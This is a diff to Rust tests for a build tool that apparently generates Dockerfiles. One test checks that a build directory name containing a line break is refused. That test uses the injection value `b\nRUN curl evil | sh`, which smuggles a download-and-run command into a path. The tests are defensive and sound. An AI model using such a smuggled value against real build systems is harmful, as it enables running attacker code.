@@ -539,7 +539,7 @@ fn a_build_directory_with_a_line_break_is_refused() {
     assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
     assert!(
         stderr(&o).contains(
-            "error: the build directory `b\\nRUN curl evil | sh` cannot be named in a Dockerfile"
+            "error: refusing to use `b\\nRUN curl evil | sh` as the build directory: its path holds `\\n`"
         ),
         "{}",
         stderr(&o)
@@ -551,10 +551,13 @@ fn a_build_directory_with_a_line_break_is_refused() {
 
 #[test]
 fn a_directory_of_projects_is_refused_once_per_project_file() {
-    let o = run(
-        &common::root(),
-        &["build", "examples", "-o", "target/never-written"],
-    );
+    // A copy of the examples without what local builds leave in them.
+    let root = tempfile::tempdir().expect("tempdir");
+    for example in ["mnist", "mnist-cpu"] {
+        let scratch = scratch_example(example);
+        common::copy_tree(scratch.path(), &root.path().join("examples").join(example));
+    }
+    let o = run(root.path(), &["build", "examples", "-o", "never-written"]);
     let err = stderr(&o);
     assert_eq!(o.status.code(), Some(2), "{err}");
     for f in [
@@ -572,7 +575,7 @@ fn a_directory_of_projects_is_refused_once_per_project_file() {
         );
     }
     assert!(err.contains("aborting due to 3 previous errors"), "{err}");
-    assert!(!common::root().join("target/never-written").exists());
+    assert!(!root.path().join("never-written").exists());
 }
 
 #[test]
